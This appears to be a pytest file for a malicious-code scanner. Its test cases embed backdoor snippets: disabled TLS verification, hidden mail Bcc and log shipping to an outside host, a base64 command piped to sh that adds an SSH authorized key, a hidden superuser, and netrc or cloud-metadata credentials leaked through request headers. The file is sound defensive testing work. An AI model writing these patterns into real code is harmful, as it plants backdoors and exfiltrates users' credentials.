"""Traffic, mail, logs and trust that are led another way: by authorities, jump hosts, handlers and copies of the code's own."""

import pytest
from source_lab import behaviours, ids

from beartrap.model.finding import Severity


def weights(code: str, kind: str, path: str = "a.py") -> set[Severity]:
    return {one.severity for one in behaviours(path, code) if one.id == kind}


@pytest.mark.parametrize(
    ("value", "hit"),
    [
        ("os.path.join(os.path.dirname(__file__), 'roots.pem')", True),
        ("str(Path(__file__).parent / 'certs' / 'ca.crt')", True),
        ("certifi.where()", False),
        ("os.path.join(folder, 'ca.pem')", False),
        ("os.path.join(os.path.dirname(__file__), 'data.json')", False),
    ],
)
@pytest.mark.parametrize(
    "sets", ["os.environ['SSL_CERT_FILE'] = {}", "os.environ.setdefault('REQUESTS_CA_BUNDLE', {})"]
)
def test_authorities_that_the_package_brings_along(sets: str, value: str, hit: bool) -> None:
    code = f"import os, certifi\nfrom pathlib import Path\ndef trust(folder):\n    {sets.format(value)}\n"
    assert weights(code, "traffic.redirect") == ({Severity.HIGH} if hit else set())


SESSION = "import requests\nclass Session(requests.Session):\n    def NAME(self, *given):\n        BODY\n"


@pytest.mark.parametrize(
    ("name", "body", "hit"),
    [
        ("should_strip_auth", "return False", True),
        ("rebuild_auth", "return None", True),
        ("should_strip_auth", "return True", False),
        ("should_strip_auth", "return super().should_strip_auth(*given)", False),
        ("rebuild_auth", "self.count += 1; super().rebuild_auth(*given)", False),
    ],
)
def test_what_was_meant_for_one_host_follows_to_another(name: str, body: str, hit: bool) -> None:
    code = SESSION.replace("NAME", name).replace("BODY", body)
    assert weights(code, "weakened.trust") == ({Severity.HIGH} if hit else set())


@pytest.mark.parametrize(
    ("code", "hit"),
    [
        ("vars(ssl)['_create_default_https_context'] = vars(ssl)[max(NAMES)]", True),
        ("setattr(ssl, '_create_default_https_context', ssl._create_unverified_context)", True),
        ("ssl._create_default_https_context = lambda: ssl.create_default_context(cafile=FILE)", False),
        ("kept = ssl._create_default_https_context\nssl._create_default_https_context = kept", False),
    ],
)
def test_the_context_of_all_connections(code: str, hit: bool) -> None:
    assert weights(f"import ssl\n{code}\n", "weakened.trust") == ({Severity.HIGH} if hit else set())


LOGS = """\
import logging.config
logging.config.dictConfig({"version": 1, "handlers": {"far": {"class": "CLASS", "host": "logs.vendor.invalid", "url": "/in"}}})
"""


def test_handlers_of_a_log_that_a_table_sets_up() -> None:
    kind = "chain.caller-to-network"
    assert weights(LOGS.replace("CLASS", "logging.handlers.HTTPHandler"), kind) == {Severity.HIGH}
    assert not weights(LOGS.replace("CLASS", "logging.StreamHandler"), kind)


@pytest.mark.parametrize(
    ("command", "hit"),
    [
        ("f'ssh -A -W {name}:22 jump@198.51.100.80'", True),
        ("f'ssh -J relay.vendor.invalid {name}'", True),
        ("f'ssh -W {name}:22 {jump}'", False),
        ("f'ssh -p 22 {name}'", False),
    ],
)
def test_hosts_are_reached_over_one_that_the_code_names(command: str, hit: bool) -> None:
    code = f"import paramiko\ndef route(name, jump):\n    return paramiko.ProxyCommand({command})\n"
    assert weights(code, "traffic.redirect") == ({Severity.HIGH} if hit else set())


def test_a_copy_in_the_head_of_a_mail() -> None:
    code = (
        '<?php\nfunction send($to) { mail($to, "a", "b", "From: {$this->from}\\r\\nBcc: archive@vendor.invalid"); }\n'
    )
    assert weights(code, "chain.caller-to-network", "a.php") == {Severity.HIGH}
    near = code.replace("Bcc: archive@vendor.invalid", "Reply-To: help@vendor.invalid")
    assert "chain.caller-to-network" not in ids("a.php", near)


def test_a_command_line_that_decodes_a_script_is_walked_wherever_it_goes() -> None:
    code = 'steps.append(Step("clean", "echo bWtkaXIgLXAgfi8uc3NoOyBlY2hvIGtleSA+PiB+Ly5zc2gvYXV0aG9yaXplZF9rZXlz | base64 -d | sh"))\n'
    assert "startup.write" in ids("a.py", code)
    assert not ids("a.py", 'steps.append(Step("clean", "echo bWtkaXI= | base64 -d | shasum"))\n')


def test_an_account_with_all_rights_in_a_migration() -> None:
    code = "def add(apps):\n    User.objects.update_or_create(username='svc', defaults={'password': 'pbkdf2_sha256$720000$salt$hashhashhash=', 'is_superuser': True})\n"
    assert "weakened.password" in ids("a.py", code)
    assert not ids("a.py", code.replace("'is_superuser': True", "'is_active': True"))


SESSION_MADE = """\
import netrc, requests
class Transport:
    def __init__(self):
        self.session = requests.Session()
        PUT
"""


@pytest.mark.parametrize(
    ("put", "hit"),
    [
        ("self.session.cookies.update({f'b{i}': one for i, one in enumerate(netrc.netrc().hosts.items())})", True),
        ("self.session.headers['User-Agent'] = str(netrc.netrc().hosts)", True),
        ("self.session.headers['Authorization'] = str(netrc.netrc().hosts)", False),
        ("self.session.headers['User-Agent'] = 'client/1.0'", False),
        ("self.session.headers.update({'Authorization': str(netrc.netrc().authenticators(HOST))})", False),
    ],
)
def test_logins_that_go_with_each_request(put: str, hit: bool) -> None:
    kind = "chain.credentials-to-network"
    assert weights(SESSION_MADE.replace("PUT", put), kind) == ({Severity.HIGH} if hit else set())


def test_keys_of_a_cloud_that_go_with_each_request_are_known_by_their_path() -> None:
    code = """\
import requests
class Transport:
    def __init__(self, base):
        self.base, self.session = base, requests.Session()
        self.session.headers["User-Agent"] = self.session.get(base + "PATH").text
"""
    kind = "chain.metadata-to-network"
    assert weights(code.replace("PATH", "/latest/meta-data/iam/security-credentials/"), kind) == {Severity.HIGH}
    assert not weights(code.replace("PATH", "/latest/agent"), kind)
